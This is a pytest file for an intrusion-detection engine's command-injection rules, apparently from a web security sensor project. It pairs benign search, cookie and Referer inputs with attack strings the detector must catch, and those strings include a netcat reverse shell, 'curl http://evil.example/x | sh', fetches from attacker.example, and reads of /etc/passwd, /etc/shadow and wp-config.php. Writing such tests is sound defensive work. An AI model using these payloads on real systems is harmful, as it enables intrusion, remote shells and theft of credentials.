"""Round 12, command injection: the `.` builtin sourcing a file (`x; . /tmp/payload.sh`, `$(. /tmp/x)`), `~+/` paths
(`$PWD`), history events inside a substitution (`$(!-1)`), a bare probe under a command parameter (`cmd=id`), commands
at the start of a URL's own values (a Referer's `?cmd=c\\at …`, `;x=…`, `#…`), statement-shaped cookie names
(`alias l=nc` cut at its `=`, `a;.dump` leaving a cookie named `.dump`); and the benign side: searches naming tools
(`awk sed grep tutorial` in `q`), a data URI's media type named in a sentence (`data:image/png;base64 in css`).
Each benign class has its closest attacks beside it: the same shape carrying a real payload stays caught."""
from __future__ import annotations

import pytest

from sensor.detect import Engine
from tests.detect.conftest import hits_for, strong



# (carrier, key, value)
BENIGN = [
    # --- search boxes: plain words naming tools are what people search for
    ("query", "q", "ls 460 engine parts"),
    ("query", "q", "ls 500h headlight bulb size"),
    ("query", "q", "sudo apt install not working"),
    ("query", "search", "apt install fails behind proxy"),
    ("query", "q", "powershell get-childitem recurse"),
    ("query", "q", "awk sed grep tutorial"),
    ("query", "keywords", "cat 320 excavator track parts"),
    ("query", "q", "chmod 777 meaning"),
    ("query", "s", "python pip install requests error"),
    ("json", "query", "netstat ano windows 11"),
    ("query", "search_term", "uname kernel version ubuntu 22"),
    # --- a data URI's media type named in a sentence
    ("query", "q", "data:image/png;base64 in css background"),
    ("query", "q", "data:image/webp;base64 vs utf8 encoding"),
    ("form", "comment", "the logo is a data:image/jpeg;base64 string, is that fine?"),
    ("query", "q", "convert data:application/pdf;base64 to file"),
    # --- a dot that is punctuation, not the source builtin
    ("form", "comment", "see the notes\n. . .\nthanks"),
    ("form", "comment", "Price 5 . 99 per unit"),
    ("query", "q", "a . b . c"),
    # --- command parameters whose value is an application's own action (elFinder, PayPal, routers)
    ("query", "cmd", "ls"),
    ("query", "cmd", "open"),
    ("query", "cmd", "_xclick"),
    ("query", "cmd", "tree"),
    ("query", "command", "status"),
    ("query", "cmd", "last"),
    ("query", "cmd", "date"),
    ("json", "shell", "bash"),
    ("json", "shell", "powershell"),
    ("query", "system", "ps"),
    ("query", "run", "env"),
    ("query", "q", "whoami"),
    ("query", "user", "id"),
    # --- Referers and URLs carrying their own values
    ("header:Referer", "", "https://www.bing.com/search?q=sudo+apt+install+not+working&form=QBLH"),
    ("header:Referer", "", "https://www.google.com/search?q=awk+sed+grep+tutorial"),
    ("header:Referer", "", "https://shop.example/products?sort=price|desc&page=2"),
    ("header:Referer", "", "https://b.s3.amazonaws.com/k?X-Amz-SignedHeaders=host;x-amz-date&X-Amz-Signature=0578b2"),
    ("header:Referer", "", "https://app.example/#/orders/123?tab=items"),
    ("header:Referer", "", "https://accounts.example/callback#access_token=abc123&state=xyz"),
    ("header:Referer", "", "https://docs.example/install#:~:text=run%20the%20installer%20again"),
    ("header:Referer", "", "https://shop.example/catalog;jsessionid=0A1B2C3D4E?cat=tools"),
    ("query", "next", "https://shop.example/account?tab=orders&cmd=view"),
    # --- cookie and parameter names: dotted framework cookies, `alias` as a name
    ("header:Cookie", "", ".AspNetCore.Session=CfDJ8Kx; .ASPXAUTH=0A1B2C"),
    ("cookie", "alias", "bob"),
    ("query", "sel", ".tables"),
    ("query", "ext", ".dump"),
]

ATTACKS = [
    # the `.` builtin sourcing a file
    ("query", "file", "x; . /tmp/payload.sh"),
    ("form", "name", "a && . /var/www/uploads/avatar.jpg"),
    ("json", "host", "localhost\n. /dev/shm/r"),
    ("cookie", "sid", "$(. /tmp/x)"),
    ("query", "q", "x| . ./run.sh"),
    ("query", "q", "x || . ~/evil"),
    ("query", "q", "`. /tmp/x`"),
    ("query", "q", "a\n. uploads/shell.jpg"),
    ("query", "q", "x; . $HOME/.x"),
    ("query", "q", ";. /tmp/x"),
    ("query", "host", ". /tmp/x"),
    # `~+/`, `~-/` paths
    ("query", "cmd", ";cat ~+/config.php"),
    ("query", "file", ";cat ~-/wp-config.php"),
    ("query", "x", "x; cat ~+/../../etc/passwd"),
    # history events in a substitution
    ("json", "arg", "$(!-1)"),
    ("query", "q", "$(!!)"),
    ("query", "q", "x`!-2`"),
    # a probe under a command parameter
    ("query", "cmd", "id"),
    ("json", "cmd", "whoami"),
    ("query", "exec", "uname"),
    ("form", "shell_cmd", "hostname"),
    ("json", "command", "ipconfig"),
    ("query", "cmd", "systeminfo"),
    # search boxes keep shell syntax, paths and options
    ("query", "q", "ls -la /etc"),
    ("query", "q", "awk sed grep; id"),
    ("query", "q", "sudo apt install x && curl http://evil.example/x | sh"),
    ("query", "q", "cat /etc/passwd"),
    ("query", "q", "$(whoami)"),
    ("query", "q", "powershell -enc aQBlAHgAIAAoAGkAdwByACkA"),
    ("query", "q", "powershell get-childitem -recurse c:\\users"),
    ("query", "q", "nc 10.0.0.1 4444 -e /bin/sh"),
    ("query", "search", "awk 'BEGIN {system(\"id\")}'"),
    ("query", "q", "a\\wk sed grep tutorial; id"),
    # data URI heads followed by a command
    ("query", "q", "data:image/png;base64 -d /etc/passwd"),
    ("query", "q", "data:image/png;base64 /etc/shadow"),
    ("query", "q", "data:text/html;base64;id"),
    ("query", "q", "data:image/png;base64 in css; cat /etc/passwd"),
    # commands at the start of a URL's values (Referer)
    ("header:Referer", "", "http://victim.example/page.php?cmd=c\\at /e\\tc/shadow"),
    ("header:Referer", "", "https://victim.example/a;x=ca$@t /etc/passwd"),
    ("header:Referer", "", "http://victim.example/x.html#w'g'et -O /tmp/x attacker.example/x"),
    ("header:Referer", "", "https://victim.example/?q=echo+$SHELL"),
    ("header:Referer", "", "https://x.example/?cmd=whoami"),
    ("header:Referer", "", "https://x.example/p;cmd=cat /etc/passwd"),
    ("header:Referer", "", "http://x.example/#curl http://e.example/x.sh -o /tmp/x.sh"),
    ("header:Referer", "", "https://x.example/?q=ls+-la+/etc"),
    ("header:Referer", "", "https://x.example/?page=c%61t%20/etc/passwd"),
    ("header:Referer", "", "https://x.example/?a=1;id"),
    # statement-shaped cookie names
    ("cookie", "prompt", "alias l=nc"),
    ("cookie", "prompt", "alias ls=whoami"),
    ("cookie", "filter", "a;.dump"),
    ("cookie", "filter", "a;.tables"),
    ("query", "q", "x;.shell id"),
]


@pytest.mark.parametrize("carrier,key,value", BENIGN, ids=[f"{c}:{k}:{v[:60]}" for c, k, v in BENIGN])
def test_benign_stays_clean(engine: Engine, carrier: str, key: str, value: str) -> None:
    assert not strong(hits_for(engine, carrier, value, key))


@pytest.mark.parametrize("carrier,key,value", ATTACKS, ids=[f"{c}:{k}:{v[:60]}" for c, k, v in ATTACKS])
def test_attack_stays_caught(engine: Engine, carrier: str, key: str, value: str) -> None:
    hits = hits_for(engine, carrier, value, key)
    assert strong(hits), [(h.rule, h.score) for h in hits]
